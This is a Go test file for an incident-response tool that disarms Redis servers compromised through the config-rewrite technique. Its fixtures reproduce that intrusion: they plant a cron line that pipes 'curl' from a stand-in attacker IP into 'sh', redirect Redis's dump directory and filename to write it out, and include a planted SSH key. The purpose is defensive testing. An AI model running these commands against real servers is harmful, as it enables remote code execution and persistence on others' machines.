package respond

import (
	"errors"
	"maps"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"demine/internal/format/authorizedkeys"
)

const plantedLine = "*/5 19-23,0-7 * * * curl -fsSL http://203.0.113.66/api/report?pm=47d1c9f0 | sh"

// seized is a server with the owner's data on disk and in memory, after an
// intruder came: the way of the incident, with another folder as the spool.
func seized(t *testing.T, lines ...string) (*ownRedis, string) {
	t.Helper()
	r := startRedis(t, lines...)
	r.say("SET", "stock:1001", "10000000")
	r.say("HSET", "item:1001", "name", "flash sale", "price", "99")
	r.say("SET", "session:1", "x", "EX", "9000")
	_, err := r.each([]string{"SELECT", "3"}, []string{"RPUSH", "queue", "a", "b"})
	must(t, err)
	r.say("SAVE")
	spool := filepath.Join(filepath.Dir(r.dir), "spool")
	must(t, os.Mkdir(spool, 0o755))
	r.say("CONFIG", "SET", "rdbcompression", "no")
	r.say("SET", "backup1", "\n\n"+plantedLine+"\n\n")
	r.say("CONFIG", "SET", "dir", spool)
	r.say("CONFIG", "SET", "dbfilename", "root")
	r.say("SAVE")
	if b, err := os.ReadFile(filepath.Join(spool, "root")); err != nil || !strings.Contains(string(b), plantedLine) {
		t.Fatalf("the intrusion did not work: %v", err)
	}
	return r, spool
}

func disarmOf(r *ownRedis) redisDisarmWith {
	return redisDisarmWith{r.server(), []redisPlant{{Key: "backup1", Lines: []string{plantedLine}}, {Key: "backup9", Lines: []string{plantedLine}}}, false}
}

func minus(m map[string]string, names ...string) map[string]string {
	m = maps.Clone(m)
	for _, n := range names {
		delete(m, n)
	}
	return m
}

// After it, neither a save nor an ordinary stop brings the planted file back,
// and nothing of the owner's is lost; with the implant asked for, undo is the
// identity.
func TestRedisDisarm(t *testing.T) {
	for n, lines := range [][]string{nil, {"requirepass sesame-open-77"}, {"appendonly yes"}, {"rdbcompression no"}} {
		t.Run(strconv.Itoa(n), func(t *testing.T) {
			pass := ""
			if len(lines) > 0 {
				pass, _ = strings.CutPrefix(lines[0], "requirepass ")
				if pass == lines[0] {
					pass = ""
				}
			}
			testDisarm(t, pass, lines...)
		})
	}
}

func testDisarm(t *testing.T, password string, lines ...string) {
	var r *ownRedis
	var spool string
	if password != "" {
		r, spool = seizedWith(t, password)
	} else {
		r, spool = seized(t, lines...)
	}
	before, dump := r.image(), read(t, filepath.Join(r.dir, "dump.rdb"))
	s := stepOf(t, redisWriter(), redisDisarm, disarmOf(r))
	m := s.done()
	if m.ID != "outcome.redis-disarmed" || m.Args["n"] != 1 {
		t.Errorf("%s %v", m.ID, m.Args)
	}
	if password != "" && strings.Contains(string(s.undo)+string(s.step.Expect), password) {
		t.Error("the password is in the journal")
	}
	after := r.image()
	changed := []string{"config dir", "config dbfilename", "config rdbcompression", "key 0 backup1"}
	if d := cmp.Diff(minus(before, changed...), minus(after, changed...)); d != "" {
		t.Errorf("what was not meant changed (-before +after):\n%s", d)
	}
	if after["config dir"] != r.dir || after["config dbfilename"] != "dump.rdb" || after["key 0 backup1"] != "" || after["config save"] != "3600 1" {
		t.Errorf("dir %s, dbfilename %s, save %s", after["config dir"], after["config dbfilename"], after["config save"])
	}
	if got := read(t, filepath.Join(r.dir, "dump.rdb")); got != dump {
		t.Error("the owner's dump changed")
	}
	if err := s.look(); !errors.Is(err, ErrNothing) {
		t.Errorf("looked at again: %v", err)
	}
	must(t, s.back())
	if d := cmp.Diff(before, r.image()); d != "" {
		t.Errorf("undo is not the identity (-before +after):\n%s", d)
	}
	must(t, s.back()) // it may be called again
	s.done()
	must(t, os.Remove(filepath.Join(spool, "root")))
	r.stop()
	if _, err := os.Stat(filepath.Join(spool, "root")); err == nil {
		t.Error("stopping Redis brought the file back")
	}
	r.start(nil)
	if d := cmp.Diff(sortedKeys(after, "key "), sortedKeys(r.image(), "key ")); d != "" {
		t.Errorf("the owner's keys after a restart (-want +got):\n%s", d)
	}
}

func read(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	must(t, err)
	return string(b)
}

// seizedWith is one whose password the intruder knew.
func seizedWith(t *testing.T, password string) (*ownRedis, string) {
	t.Helper()
	r, spool := seized(t)
	must(t, os.WriteFile(r.conf, []byte(read(t, r.conf)+"requirepass "+password+"\n"), 0o640))
	r.say("CONFIG", "SET", "requirepass", password)
	r.password = password
	return r, spool
}

// What was emptied is not saved over the dump that still holds it.
func TestRedisDisarmAfterFlush(t *testing.T) {
	r, _ := seized(t)
	r.say("FLUSHALL")
	r.say("SET", "backup1", "\n\n"+plantedLine+"\n\n")
	for n := range 10 { // as many keys as before do not hide it
		r.say("SET", "new:"+strconv.Itoa(n), "x")
	}
	dump := read(t, filepath.Join(r.dir, "dump.rdb"))
	s := stepOf(t, redisWriter(), redisDisarm, disarmOf(r))
	if m := s.done(); m.ID != "outcome.redis-disarmed-unsaved" || r.config("save") != "" {
		t.Errorf("%s, save %q", m.ID, r.config("save"))
	}
	r.stop()
	if read(t, filepath.Join(r.dir, "dump.rdb")) != dump {
		t.Error("the owner's dump was overwritten")
	}
}

// Fewer keys than on disk without a trace of why: the counters were reset.
func TestRedisDisarmFewerKeys(t *testing.T) {
	r, _ := seized(t)
	r.say("FLUSHALL")
	r.say("CONFIG", "RESETSTAT")
	if m := stepOf(t, redisWriter(), redisDisarm, disarmOf(r)).done(); m.ID != "outcome.redis-disarmed-unsaved" || r.config("save") != "" {
		t.Errorf("%s, save %q", m.ID, r.config("save"))
	}
}

// Without room for a copy it is disarmed, but does not save.
func TestRedisDisarmWithoutRoom(t *testing.T) {
	r, _ := seized(t)
	w := redisWriter()
	w.Vault = &redisShelf{full: 150}
	if m := stepOf(t, w, redisDisarm, disarmOf(r)).done(); m.ID != "outcome.redis-disarmed-unsaved" || r.config("dir") != r.dir || r.config("save") != "" {
		t.Errorf("%s, dir %s, save %q", m.ID, r.config("dir"), r.config("save"))
	}
}

// A key of the planted name whose value is another is the owner's.
func TestRedisDisarmSparesTheOwners(t *testing.T) {
	r, _ := seized(t)
	r.say("SET", "backup1", "the nightly backup")
	_, err := r.each([]string{"SELECT", "5"}, []string{"RPUSH", "backup1", "a", "\n" + plantedLine + "\n"}, []string{"PEXPIRE", "backup1", "900000"})
	must(t, err)
	before := r.image()
	s := stepOf(t, redisWriter(), redisDisarm, disarmOf(r))
	s.done()
	if after := r.image(); after["key 0 backup1"] != before["key 0 backup1"] || after["key 5 backup1"] != "" {
		t.Errorf("left: %v", sortedKeys(after, "key "))
	}
	must(t, s.back())
	if d := cmp.Diff(before, r.image()); d != "" {
		t.Error(d)
	}
	s.done()
	_, err = r.each([]string{"SELECT", "5"}, []string{"SET", "backup1", "somebody's"})
	must(t, err)
	if err := s.back(); !errors.Is(err, ErrDrifted) || r.config("dir") != r.dir {
		t.Errorf("undo over somebody's key: %v, dir %s", err, r.config("dir"))
	}
}

// A server that only could have written the file is left alone, unless it has
// the key.
func TestRedisDisarmMaybe(t *testing.T) {
	r := startRedis(t)
	with := disarmOf(r)
	with.Maybe = true
	if err := stepOf(t, redisWriter(), redisDisarm, with).look(); !errors.Is(err, ErrNothing) {
		t.Error(err)
	}
	r.say("SET", "backup1", "\n\n"+plantedLine+"\n\n") // dir was set back
	stepOf(t, redisWriter(), redisDisarm, with).done()
	if r.config("dir") != r.dir || len(sortedKeys(r.image(), "key ")) != 0 {
		t.Errorf("left: %v", sortedKeys(r.image(), "key "))
	}
}

// An undo is right wherever Do was cut off.
func TestRedisDisarmCutOff(t *testing.T) {
	r, _ := seized(t)
	before := r.image()
	s := stepOf(t, redisWriter(), redisDisarm, disarmOf(r))
	must(t, s.look())
	var err error
	s.undo, err = s.action.Prepare(t.Context(), s.w, s.step)
	must(t, err)
	for _, done := range [][][]string{
		nil, {{"CONFIG", "SET", "save", ""}}, {{"CONFIG", "SET", "save", ""}, {"CONFIG", "SET", "dir", r.dir}},
		{{"CONFIG", "SET", "save", ""}, {"CONFIG", "SET", "dir", r.dir}, {"CONFIG", "SET", "dbfilename", "dump.rdb"}, {"DEL", "backup1"}},
	} {
		for _, c := range done {
			r.say(c...)
		}
		must(t, s.back())
		if d := cmp.Diff(before, r.image()); d != "" {
			t.Errorf("after %v:\n%s", done, d)
		}
	}
	r.say("CONFIG", "SET", "dir", "/tmp")
	if err := s.back(); !errors.Is(err, ErrDrifted) || r.config("dir") != "/tmp" {
		t.Errorf("%v, dir %s", err, r.config("dir"))
	}
}

func TestRedisDisarmRefuses(t *testing.T) {
	t.Run("replica", func(t *testing.T) {
		master := startRedis(t)
		r := startRedis(t, "replicaof 127.0.0.1 "+strconv.Itoa(master.port))
		refused(t, stepOf(t, redisWriter(), redisDisarm, disarmOf(r)).look(), "refuse.redis-replica")
		maybe := disarmOf(r) // nothing stands against cleaning up because of it
		maybe.Maybe = true
		if err := stepOf(t, redisWriter(), redisDisarm, maybe).look(); !errors.Is(err, ErrNothing) {
			t.Errorf("a replica that nothing accuses: %v", err)
		}
	})
	t.Run("unknown folder", func(t *testing.T) {
		r, _ := seized(t)
		conf := strings.Replace(read(t, r.conf), "dir "+r.dir, "", 1)
		must(t, os.WriteFile(r.conf, []byte(conf), 0o644))
		refused(t, stepOf(t, redisWriter(), redisDisarm, disarmOf(r)).look(), "refuse.redis-dir-unknown")
	})
	t.Run("rewritten file", func(t *testing.T) {
		r, _ := seized(t)
		conf := strings.Replace(read(t, r.conf), "dir "+r.dir, "dir /var/spool/cron", 1)
		must(t, os.WriteFile(r.conf, []byte(conf), 0o644))
		refused(t, stepOf(t, redisWriter(), redisDisarm, disarmOf(r)).look(), "refuse.redis-config-planted")
	})
	t.Run("unknown password", func(t *testing.T) {
		r, _ := seized(t)
		r.say("CONFIG", "SET", "requirepass", "set-at-run-time")
		r.password = "set-at-run-time"
		refused(t, stepOf(t, redisWriter(), redisDisarm, disarmOf(r)).look(), "refuse.redis-password-unknown")
	})
	t.Run("protected", func(t *testing.T) {
		r, _ := seized(t)
		r.stop() // it saves where it was told to
		conf := strings.Replace(read(t, r.conf), "enable-protected-configs yes", "", 1)
		must(t, os.WriteFile(r.conf, []byte(conf+"dbfilename other.rdb\n"), 0o644))
		r.start(nil)
		must(t, os.WriteFile(r.conf, []byte(conf), 0o644))
		_, err := stepOf(t, redisWriter(), redisDisarm, disarmOf(r)).do()
		refused(t, err, "refuse.redis-set")
	})
	t.Run("another program", func(t *testing.T) {
		self := redisServer{PID: os.Getpid(), Port: freePort(t)}
		refusedOrGone(t, self)
	})
}

// A process that is not the one that was looked at is never spoken to.
func refusedOrGone(t *testing.T, s redisServer) {
	t.Helper()
	with := redisDisarmWith{Server: s}
	if err := stepOf(t, redisWriter(), redisDisarm, with).look(); !errors.Is(err, ErrGone) {
		t.Errorf("wrong start time: %v", err)
	}
	s.Start = startOfPID(t, s.PID)
	with.Server = s
	refused(t, stepOf(t, redisWriter(), redisDisarm, with).look(), "refuse.redis-program")
}

func startOfPID(t *testing.T, pid int) uint64 {
	t.Helper()
	b := read(t, "/proc/"+strconv.Itoa(pid)+"/stat")
	f := strings.Fields(b[strings.LastIndexByte(b, ')')+2:])
	n, err := strconv.ParseUint(f[19], 10, 64)
	must(t, err)
	return n
}

// A public key that was planted is found by its fingerprint, a line also where
// the fact hides a secret in it or cuts it.
func TestRedisPlantIn(t *testing.T) {
	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEu8u2PbYbTJjlpy6HbcXWFvNnBtGRDDEnVSYnHWUXHf root@vps"
	print := authorizedkeys.Parse([]byte(key))[0].Fingerprint
	for _, c := range []struct {
		p     redisPlant
		value string
		want  bool
	}{
		{redisPlant{Prints: []string{print}}, "\n\n" + key + "\n\n", true},
		{redisPlant{Prints: []string{"SHA256:other"}}, "\n\n" + key + "\n\n", false},
		{redisPlant{Lines: []string{"* * * * * curl -u u:*** http://h | sh"}}, "\n* * * * * curl -u u:sesame http://h | sh\n", true},
		{redisPlant{Lines: []string{"* * * * * curl…"}}, "\n* * * * * curl http://h | sh\n", true},
		{redisPlant{Lines: []string{"* * * * * sh"}}, "\n* * * * * sh -c x\n", false},
		{redisPlant{}, "", false},
	} {
		if got := c.p.in(c.value); got != c.want {
			t.Errorf("%+v in %q: %v", c.p, c.value, got)
		}
	}
}
